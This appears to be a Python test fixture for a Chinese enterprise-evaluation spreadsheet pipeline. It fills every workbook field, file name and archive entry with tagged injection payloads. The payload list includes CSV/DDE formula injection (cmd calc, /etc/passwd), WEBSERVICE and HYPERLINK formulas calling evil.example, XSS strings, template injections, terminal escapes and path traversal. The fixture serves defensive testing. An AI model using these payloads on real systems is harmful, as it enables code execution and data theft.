"""A province in which every text that somebody else could have typed is an attempt at something: a formula, a link, markup, an
escape sequence, a path. Each text carries a mark of its own, so that a test can tell where it came out and as what."""

from __future__ import annotations

import io
import os
import re
import zipfile
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, field
from typing import NamedTuple

from pipeline.model.decisions import SHEETS, SIGNED
from pipeline.model.rulebook import Rulebook
from tests.support.workbooks import Cell, form_rows, full_answers, workbook

MARK = re.compile(r"ZM[A-J]{5}Z")  # letters, for digits side by side are a phone number
_LETTERS = str.maketrans("0123456789", "ABCDEFGHIJ")
SLOT = "§"  # where the mark goes

# What is tried, by what it would do where it worked.
PAYLOADS: dict[str, str] = {
    "formula": '=1+1&"§"',
    "formula +": "+1+1+§",
    "formula -": "-1+1-§",
    "formula @": "@SUM(1,1)§",
    "formula behind a tab": '\t=1+1&"§"',
    "formula behind a return": '\r=1+1&"§"',
    "formula behind a line break": '\n=1+1&"§"',
    "formula behind a space": ' =1+1&"§"',
    "formula in full width": '＝1+1&"§"',
    "full width +": "＋1+1＋§",
    "full width -": "－1+1－§",
    "full width @": "＠SUM(1,1)§",
    "formula behind nothing seen": '\u200b=1+1&"§"',
    "formula behind a byte order mark": '\ufeff=1+1&"§"',
    "formula behind an apostrophe": '\'=1+1&"§"',
    "formula behind a control character": '\x01=1+1&"§"',
    "DDE": "=cmd|' /C calc'!A0§",
    "DDE behind @": "@SUM(1+1)*cmd|' /C calc'!A0§",
    "DDE in LibreOffice": '=DDE("soffice";"/etc/passwd";"§")',
    "link formula": '=HYPERLINK("http://evil.example/§","§")',
    "web formula": '=WEBSERVICE("http://evil.example/§")',
    "another file's cell": "='file:///etc/passwd'#$Sheet1.A1&\"§\"",
    "web address": "http://evil.example/§",
    "mail address": "mailto:a@evil.example?subject=§",
    "network share": "\\\\evil.example\\share\\§",
    "our own link": "internal:'Sheet'!A1§",
    "script": "<script>alert('§')</script>",
    "picture": '"><img src=x onerror=alert(1)>§',
    "event": "' onmouseover='alert(1)' x='§",
    "style": "</style><style>@import url(//evil.example/§);</style>",
    "svg": "</title></svg><svg onload=alert(1)>§",
    "comment": "--><!-- §",
    "script address": "javascript:alert(1)//§",
    "data address": "data:text/html;base64,§",
    "jinja": "{{7*7}}{% for a in b %}{# § #}§",
    "braces": "{0.__class__}{found}{company}{item}{}§",
    "percents": "%s%(company)s%n$x${x}§",
    "markup": "[bold red]§[/bold red][link=http://evil.example]a[/link]",
    "markup closed twice": "[/]§[/link]",
    "colour": "\x1b[5;41m§\x1b[0m",
    "window title": "\x1b]0;§\x07",
    "terminal link": "\x1b]8;;http://evil.example\x1b\\§\x1b]8;;\x1b\\",
    "colour in one byte": "\x9b5;41m§",
    "CSV cell": '§","b\n"=1+1","',
    "CSV rows": "§\r\n=1+1,2\r\n",
    "quotes": '§"\'`“”""',
    "right to left": "§\u202exslx.gpj",
    "isolated": "\u2066§\u2069\u200f\u061c",
    "nothing seen": "甲\u200b\u200d乙\u2060§\u00ad",
    "no character": "§\ufffe\uffff",
    "half a character": "§\ud800",
    "other half": "\udc00§",
    "control characters": "§\x00\x02\x08\x0b\x0c\x1f\x7f\x85",
    "line separators": "§\u2028甲\u2029乙",
    "end of text": "</t></si><si><t>§",
    "end of data": "]]><f>1+1</f>§",
    "rich text": "<r><t>§</t></r>",
    "entities": "&lt;b&gt;§&amp;&#61;1+1",
    "escaped =": "_x003D_1+1§",
    "escaped ends": "§_x000D__x000a_",
    "escapes that overlap": "_xFF21_xFF1D_xFF22_§",
    "escaped escape": "_x005F_x003D_§",
    "escaped sequence": "_x001B_[5;41m§",
    "astral": "😀𠮷§🏴\U000e0067\U000e007f",
    "way up": "../../§",
    "drive": "C:\\Windows\\§",
    "device": "CON.§",
    "folders": "甲/乙/§",
    "sheet's name": "[§]:*?'!A1",
    "apostrophes": "'§'",
    "header codes": '&A&P&G&"Arial"&24§&&',
    "error": "#REF!§",
    "long": "§" + "长" * 300,
    "forty characters": "§" + "县" * 33,
}

# Numbers and dates that are texts; a mark would make them none.
LOOK_ALIKES = ("1E5", "00012", "1/2", "2024-01-01", "1e400", "TRUE", "3-4", "12%")


class Placed(NamedTuple):
    """One text that was put somewhere: the field, the attempt, the text itself."""

    field: str
    payload: str
    text: str


@dataclass
class Attempts:
    """Hands out texts, the next attempt each time a field is filled; remembers where each went, by its mark."""

    placed: dict[str, Placed] = field(default_factory=dict)
    counts: dict[str, int] = field(default_factory=dict)

    def text(self, name: str, held: Callable[[str], str] = str) -> str:
        """The next attempt for the field `name`, as far as its place can hold it. Fields begin with different attempts."""
        count = self.counts.setdefault(name, 7 * len(self.counts))
        self.counts[name] += 1
        payload = list(PAYLOADS)[count % len(PAYLOADS)]
        mark = f"ZM{len(self.placed):05d}Z".translate(_LETTERS)
        text = held(PAYLOADS[payload].replace(SLOT, mark))
        self.placed[mark] = Placed(name, payload, text)
        return text

    def row(self, form: str, columns: Iterable[str], **typed: str | int) -> list[Cell]:
        """A row of a form: what is `typed` as it is, an attempt in each other column."""
        return [typed.get(column) if column in typed else self.text(f"{form}：{column}") for column in columns]


def stored(text: str) -> str:
    """A text as a workbook's XML holds it: what XML cannot hold, and what reads like an escape, as _xHHHH_."""
    text = re.sub(r"_(?=x[0-9A-Fa-f]{4}_)", "_x005F_", text)
    return re.sub("[\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]", lambda match: f"_x{ord(match[0]):04X}_", text)


def book(sheets: Mapping[str, list[list[Cell]]], **options: object) -> bytes:
    """A workbook whose texts may hold anything."""
    named = {
        name: [[stored(cell) if isinstance(cell, str) else cell for cell in row] for row in rows]
        for name, rows in sheets.items()
    }
    return workbook(named, **options)


def in_attribute(text: str) -> str:
    """What of a text a sheet's name, which stands in an attribute, can hold."""
    return re.sub("[\x00-\x1f\ud800-\udfff\ufffe\uffff]", "", text)


def on_disk(text: str) -> str:
    """What of a text a file's name on Linux can hold; half a character as the bytes some program wrote for it."""
    return os.fsdecode(text[:50].replace("/", "∕").replace("\0", "").encode("utf-8", "surrogatepass"))


def in_archive(text: str) -> str:
    return text.replace("\0", "").encode("utf-8", "replace").decode()


# ---------------------------------------------------------------------------------------- the province

HOME, OTHER = "杭州市/上城区", "宁波市/鄞州区"
_LIST = (
    "序号",
    "区县",
    "企业名称",
    "主营业务",
    "上年度销售收入（万元）",
    "上年度利润总额（万元）",
    "近三年信息化建设和运维投入（万元）",
    "近三年上云投入（万元）",
    "企业信息化负责人",
    "联系电话",
    "经信部门推荐意见",
)
_FIGURES = dict(zip(_LIST[4:8], (1000, 100, 20, 10), strict=True))
_FEW = 13  # rows of a form with so many fields that each attempt is made in one of them
_SYSTEMS = ("系统名称", "类别", "是否上云", "截图", "备注")
_POOL_YEARS = ("2021年新增数", "2022年新增数", "2023年新增数")


class Province(NamedTuple):
    """The files of an input folder, two lists of experts, and what was tried where."""

    files: dict[str, bytes]
    experts: bytes
    refused_experts: bytes
    attempts: Attempts
    companies: tuple[str, ...]


def hostile_province(rulebook: Rulebook, attempts: Attempts | None = None) -> Province:
    """Every form, every field of each, every attempt in each column of a list."""
    attempts = attempts or Attempts()
    companies = [attempts.text("附件1和附件2：企业名称") for _ in PAYLOADS]
    files = {
        f"{HOME}/附件2.xlsx": _nominated(attempts, companies),
        f"{OTHER}/附件2.xlsx": _all_hostile_list(attempts),
        "专家评分/长表.xlsx": _long_marks(attempts, companies, rulebook),
        "专家评分/宽表.xlsx": _wide_marks(attempts, companies, rulebook),
        "培育库.xlsx": _pool(attempts, rulebook),
        "人工决定.xlsx": _decisions(attempts, companies),
        f"{HOME}/材料.zip": _archive(attempts, rulebook),
    }
    for number, company in enumerate(companies):
        folder = f"{HOME}/{attempts.text('文件夹名称', on_disk)}"
        files[f"{folder}/{attempts.text('附件1：文件名', on_disk)}.xlsx"] = _form(
            attempts, company, rulebook, number % 12 == 11
        )
        files[f"{folder}/{attempts.text('佐证材料：文件名', on_disk)}.pdf"] = b"%PDF-1.4"
        if number % 4 == 0:
            files[f"{folder}/{attempts.text('读不出的文件：文件名', on_disk)}.xlsx"] = b"PK broken"
    return Province(files, _experts(attempts, False), _experts(attempts, True), attempts, tuple(companies))


def _nominated(attempts: Attempts, companies: list[str]) -> bytes:
    """A list whose county and figures are in order, so that its companies are ranked."""
    typed = [
        {"序号": order, "区县": "上城区", "企业名称": company, **_FIGURES} for order, company in enumerate(companies, 1)
    ]
    rows = [attempts.row("附件2", _LIST, **row) for row in typed]
    for row, text in zip(rows, LOOK_ALIKES, strict=False):
        row[_LIST.index("主营业务")] = text
    return _listed(
        attempts, "附件2", [[attempts.text("附件2：标题")], [*_LIST, attempts.text("附件2：不认识的列")], *rows]
    )


def _all_hostile_list(attempts: Attempts) -> bytes:
    rows = [attempts.row("附件2乙", _LIST) for _ in PAYLOADS]
    return _listed(attempts, "附件2乙", [list(_LIST), *rows, *([attempts.text("附件2乙：表下的话")] for _ in PAYLOADS)])


def _listed(attempts: Attempts, form: str, rows: list[list[Cell]]) -> bytes:
    name, label, value, saved = (
        attempts.text(f"{form}：{what}", in_attribute) for what in ("工作表名", "属性名", "属性", "保存时间")
    )
    return book({name: rows}, properties={label: value}, saved=saved)


def _form(attempts: Attempts, company: str, rulebook: Rulebook, hostile: bool) -> bytes:
    """附件1 of a company: with answers in order, or (`hostile`) an attempt in each of them."""
    answers = full_answers(rulebook, cloud_spend=(10, 20))
    if hostile:
        for item in rulebook.ratio_indicators:
            if not item.categories:
                typed = [
                    attempts.text(f"附件1：{item.label} {part}")
                    for part in ("N", "M")
                    if part == "N" or item.m == "typed"
                ]
                answers[item.id] = tuple(typed) if len(typed) > 1 else typed[0]
    rows, tops = form_rows(rulebook, answers)
    if hostile:
        for item in rulebook.ratio_indicators:
            for line in range(len(item.categories) // 2):
                rows[tops[item.id] + line][4] = attempts.text("附件1：勾选")
    labels: list[list[Cell]] = [
        [attempts.text("附件1：标题")],
        ["企业名称：", company, "统一社会信用代码：", attempts.text("附件1：信用代码") if hostile else None],
        ["联系人：", attempts.text("附件1：联系人"), "填报日期：", attempts.text("附件1：日期")],
    ]
    notes = [["备注：", attempts.text("附件1：备注")]]
    systems = [list(_SYSTEMS), *(attempts.row("系统清单", _SYSTEMS) for _ in range(4))]
    papers = [
        ["佐证材料", "文件名称", "有无", "说明"],
        attempts.row("佐证材料", ("评分项", "文件名称", "有无", "说明")),
    ]
    return book(
        {
            attempts.text("附件1：工作表名", in_attribute): [*labels, *rows, *notes],
            "系统清单": systems,
            "佐证材料": papers,
        }
    )


def _long_marks(attempts: Attempts, companies: list[str], rulebook: Rulebook) -> bytes:
    items = [item.label for item in rulebook.expert_indicators]
    columns = ("专家", "企业名称", "评分项", "得分", "回避理由", "备注")
    rows = [
        attempts.row("专家评分长表", columns, 企业名称=company, 评分项=items[number % len(items)], 得分=3)
        for number, company in enumerate(companies)
    ]
    rows += [
        attempts.row("专家评分长表", columns, 企业名称=company, 评分项=items[0], 得分="回避")
        for company in companies[:10]
    ]
    return book({"评分": [list(columns), *rows]})


def _wide_marks(attempts: Attempts, companies: list[str], rulebook: Rulebook) -> bytes:
    items = [item.label for item in rulebook.expert_indicators]
    columns = ("企业名称", *items, "回避", "回避理由", "备注")
    good = [
        attempts.row("专家评分", columns, **{"企业名称": company, **dict.fromkeys(items, 3), "回避": ""})
        for company in companies
    ]
    return book(
        {
            attempts.text("专家评分：工作表名", in_attribute): [
                ["专家：", attempts.text("专家评分：专家")],
                list(columns),
                *good,
            ],
            "乙": [["专家：", "李四"], list(columns), *(attempts.row("专家评分", columns) for _ in range(_FEW))],
        }
    )


def _pool(attempts: Attempts, rulebook: Rulebook) -> bytes:
    counts = ("序号", "地区", *_POOL_YEARS, "三年累计数", "三年目标数", "完成进度")
    names, targets = ("年份", "级别", "地区", "区县", "企业名称"), ("地区", "三年目标数")
    good: list[Cell] = [1, "杭州市", 1, 2, 3, 6, 5, None]
    other = [attempts.row("培育库", counts, 地区=city) for city in rulebook.city_names[1:]]
    return book(
        {
            "市级": [
                ["市级培育库" + attempts.text("培育库：标题")],
                list(counts),
                good,
                *other,
                *(attempts.row("培育库", counts) for _ in range(_FEW)),
            ],
            "名单": [
                list(names),
                *(attempts.row("培育库名单", names, 年份=2022, 级别="市级", 地区="杭州市") for _ in PAYLOADS),
                *(attempts.row("培育库名单", names) for _ in range(_FEW)),
            ],
            "目标": [["市级培育库目标"], list(targets), *(attempts.row("培育库目标", targets) for _ in range(_FEW))],
        }
    )


def _decisions(attempts: Attempts, companies: list[str]) -> bytes:
    """On every sheet attempts in every column; and signed ones that hold, about companies with such names."""
    signed = [column.header for column in SIGNED]
    sheets = {}
    for sheet in SHEETS:
        columns = [*(column.header for column in sheet.columns), *signed]
        rows = [attempts.row(f"人工决定{sheet.name}", columns) for _ in range(_FEW)]
        rows += [attempts.row(f"人工决定{sheet.name}", columns, 日期="2024-05-20") for _ in range(_FEW)]
        sheets[sheet.name] = [columns, *rows]
    owner = [
        attempts.row("人工决定归属", [*("企业", "区县"), *signed], 企业=company, 区县="上城区", 日期="2024-05-20")
        for company in companies
    ]
    sheets["归属"] += owner
    sheets["剔除"].append(attempts.row("人工决定剔除", ["企业", *signed], 企业=companies[3], 日期="2024-05-20"))
    return book(sheets)


def _experts(attempts: Attempts, avoiding: bool) -> bytes:
    """A list of experts that is taken; or (`avoiding`) one that is refused, with what it says quoted."""
    columns = ("专家姓名", "单位", "回避企业", "回避区县")
    typed = {"回避区县": ""} | ({} if avoiding else {"回避企业": ""})
    rows = [attempts.row("专家名单", columns, **typed) for _ in PAYLOADS]
    fit = [row for row in rows if len(str(row[0])) <= 30 and "\n" not in str(row[0])]
    return book({"专家名单": [list(columns), *(fit if avoiding else fit[::8])]})


def _archive(attempts: Attempts, rulebook: Rulebook) -> bytes:
    """Papers whose names in the archive are attempts, and a form."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.comment = attempts.text("压缩包：注释").encode("utf-8", "replace")
        for _ in PAYLOADS:
            name = attempts.text("压缩包：文件名", in_archive)
            archive.writestr(zipfile.ZipInfo(f"{name}.pdf", (2024, 1, 1, 0, 0, 0)), b"%PDF-1.4")
        archive.writestr(
            zipfile.ZipInfo("附件1.xlsx", (2024, 1, 1, 0, 0, 0)),
            _form(attempts, attempts.text("附件1：没有推荐的企业"), rulebook, hostile=False),
        )
    return stream.getvalue()
